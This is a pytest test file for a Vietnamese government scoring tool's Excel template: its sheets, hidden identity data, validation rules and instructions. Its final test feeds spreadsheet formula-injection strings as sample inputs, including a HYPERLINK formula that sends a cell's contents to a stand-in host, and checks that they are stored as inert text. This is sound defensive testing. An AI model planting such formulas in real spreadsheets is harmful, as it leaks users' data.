"""The template: one row per unit, one column per entered value, help for the user, hidden identity."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from govscore.imports import UnitRow, build_template, read_workbook
from govscore.imports.layout import columns_for
from govscore.scoring.loading.framework_file import framework_from_data, load_framework
from govscore.scoring.loading.yamlfile import parse_yaml_text

from .workbooks import COLUMNS, IDENTITY, UNITS, framework, template


@pytest.fixture(scope="module")
def workbook() -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(template()))


def test_it_has_a_data_sheet_an_instructions_sheet_and_a_very_hidden_identity_sheet(
    workbook: openpyxl.Workbook,
) -> None:
    assert workbook.sheetnames == ["Số liệu", "Hướng dẫn", "_govscore"]
    assert [workbook[name].sheet_state for name in workbook.sheetnames] == ["visible", "visible", "veryHidden"]
    assert workbook.active.title == "Số liệu"


def test_it_declares_the_data_sheets_size_before_its_rows() -> None:
    # Without <dimension>, openpyxl's read-only mode (the import's reader) scans the sheet once more.
    sheet = openpyxl.load_workbook(io.BytesIO(template()), read_only=True)["Số liệu"]
    rows = list(sheet.iter_rows(values_only=True))
    assert (sheet.max_row, sheet.max_column) == (len(rows), len(COLUMNS)) == (2 + len(UNITS), len(COLUMNS))
    with zipfile.ZipFile(io.BytesIO(template())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert xml.index(f'<dimension ref="A1:{get_column_letter(len(COLUMNS))}4"/>') < xml.index("<sheetData>")


def test_it_writes_the_period_framework_and_template_version_into_the_hidden_sheet(
    workbook: openpyxl.Workbook,
) -> None:
    pairs = {row[0]: row[1] for row in workbook["_govscore"].iter_rows(max_col=2, values_only=True) if row[0]}
    assert pairs == {
        "format": "govscore-data-template",
        "template_version": 1,
        "period_id": 5,
        "period_year": 2013,
        "period_title": "Đánh giá năm 2013",
        "framework_code": "kiem-thu-nhap",
        "framework_version": "1",
    }


def test_it_heads_each_column_with_its_code_and_its_title(workbook: openpyxl.Workbook) -> None:
    sheet = workbook["Số liệu"]
    assert [cell.value for cell in sheet[1]] == COLUMNS
    titles = [cell.value for cell in sheet[2]]
    assert titles[0] == "Mã đơn vị\n(bắt buộc, không sửa)"
    assert titles[3:6] == [
        "CBCC có hộp thư / tổng số CBCC — tử số\n(số ≥ 0)",
        "CBCC có hộp thư / tổng số CBCC — mẫu số\n(số ≥ 0)",
        "CBCC có hộp thư / tổng số CBCC — hoặc tỷ lệ %\n(số từ 0 đến 100)",
    ]
    assert titles[8] == "Số cuộc họp trực tuyến\n(số nguyên ≥ 0, cuộc)"
    assert titles[9] == "Chỉ số hài lòng\n(số từ 0 đến 100)"
    assert sheet.freeze_panes == "C3"
    assert sheet.column_dimensions["B"].width == 40


def test_it_leaves_out_indicators_that_are_not_entered_as_data() -> None:
    example = load_framework("src/govscore/examples/dongnai-2012/framework.yaml")
    keys = [column.key for column in columns_for(example)]
    assert "monthly_reports" not in keys and "other_criteria" not in keys
    assert "email_accounts.tu_so" in keys and "regulations" in keys


def test_it_prefills_numbers_as_numbers_and_answers_as_words(workbook: openpyxl.Workbook) -> None:
    stp, syt = workbook["Số liệu"].iter_rows(min_row=3, values_only=True)
    assert stp == (
        "STP",
        "Sở Tư pháp",
        "Sở, ban, ngành",
        40,
        50,
        None,
        "Có",
        "Phó ban",
        3,
        87.5,
        "attt, van_ban",
        "Đã triển khai",
    )
    assert syt == ("SYT", "Sở Y tế", "Sở, ban, ngành", None, None, 97, "Không", None, None, None, "-", None)
    assert workbook["Số liệu"]["I3"].number_format == "#,##0"


def test_it_restricts_cells_with_data_validation(workbook: openpyxl.Workbook) -> None:
    validations = {
        str(item.sqref): (item.type, item.operator, item.formula1, item.formula2)
        for item in workbook["Số liệu"].data_validations.dataValidation
    }
    assert validations == {
        "D3:D1048576": ("decimal", "greaterThanOrEqual", "0", None),
        "E3:E1048576": ("decimal", "greaterThanOrEqual", "0", None),
        "F3:F1048576": ("decimal", "between", "0", "100"),
        "G3:G1048576": ("list", None, '"Có,Không"', None),
        "H3:H1048576": ("list", None, "'_govscore'!$D$1:$D$3", None),
        "I3:I1048576": ("whole", "greaterThanOrEqual", "0", None),
        "J3:J1048576": ("decimal", "between", "0", "100"),
        "K3:K1048576": (None, None, None, None),
    }
    choices = [row[0] for row in workbook["_govscore"].iter_rows(min_col=4, max_col=4, max_row=3, values_only=True)]
    assert choices == ["Trưởng ban", "Phó ban", "Không tham gia"]


def test_it_explains_every_column_and_the_rules_in_vietnamese(workbook: openpyxl.Workbook) -> None:
    text = "\n".join(
        " | ".join(str(value) for value in row if value is not None)
        for row in workbook["Hướng dẫn"].iter_rows(values_only=True)
    )
    assert "Kỳ đánh giá: Đánh giá năm 2013 (mã kỳ 5, năm 2013)" in text
    assert "Ô để trống nghĩa là GIỮ NGUYÊN số liệu đã có" in text
    assert "I | meetings | Số cuộc họp trực tuyến | Số nguyên | số nguyên ≥ 0 | cuộc" in text
    assert "K | regulations | Quy định đã ban hành | Danh sách mã | attt, thu_dien_tu, van_ban" in text
    assert "regulations | thu_dien_tu | quy định sử dụng thư điện tử" in text
    assert "mỗi lỗi ghi trang, dòng, cột (chữ cái của cột và mã cột ở dòng 1) và nội dung lỗi" in text
    assert "NFC" not in text  # no programmer's terms


def test_an_empty_template_has_the_units_and_no_values() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(build_template(framework(), IDENTITY, UNITS)))["Số liệu"]
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert [row[:2] for row in rows] == [("STP", "Sở Tư pháp"), ("SYT", "Sở Y tế")]
    assert all(value is None for row in rows for value in row[3:])


CLASHING = """\
format: 1
kind: framework
code: trung-ma
version: "1"
title: "Chỉ tiêu trùng mã cột"
decision: {number: "2/QĐ-KT"}
max_points: 10
groups: [{code: so-nganh, name: "Sở, ban, ngành"}]
grading: {bands: [{grade: A, from: 5}, {grade: B, below: 5}]}
indicators:
  - {code: khoi, title: "Số khối máy chủ", type: count}
  - {code: email, title: "Hộp thư", type: ratio}
  - {code: email.tu_so, title: "Một chỉ tiêu mang mã của một cột tỷ lệ", type: text}
criteria:
  - code: "1"
    title: "Máy chủ"
    max: 10
    rule: {type: step_table, indicator: khoi, steps: [{at_least: 1, points: 10}]}
"""


def test_an_indicator_coded_like_another_column_gets_its_own_column_code() -> None:
    data, source = parse_yaml_text(CLASHING, "trung-ma.yaml")
    clashing = framework_from_data(data, source)
    keys = [column.key for column in columns_for(clashing)]
    assert keys == [
        "ma_don_vi",
        "ten_don_vi",
        "khoi",
        "khoi_",
        "email.tu_so",
        "email.mau_so",
        "email.ty_le",
        "email.tu_so_",
    ]
    values = {"SYT": {"khoi": "3", "email": {"numerator": "1", "denominator": "2"}, "email.tu_so": "ghi chú"}}
    units = [UnitRow("SYT", "Sở Y tế")]
    result = read_workbook(build_template(clashing, IDENTITY, units, values), clashing, IDENTITY, units)
    assert (result.problems, result.values) == ((), values)


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://x.example/?"&B3,"x")', "+A1", "-2+3", "@SUM(A1)", "#N/A"])
def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back_the_same(text: str) -> None:
    units = [UnitRow("STP", text, text), UnitRow("SYT", "Sở Y tế", "Sở, ban, ngành")]
    data = build_template(framework(), IDENTITY, units, {"STP": {"remark": text}})
    book = openpyxl.load_workbook(io.BytesIO(data))
    kinds = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert not kinds & {"f", "e"}
    sheet = book["Số liệu"]
    assert [sheet["B3"].value, sheet["C3"].value, sheet["L3"].value] == [text, text, text]
    # Imported back as exported: the same value, not the empty cell a formula's missing result would be.
    result = read_workbook(data, framework(), IDENTITY, units)
    assert result.ok, result.problems
    assert result.values["STP"]["remark"] == text
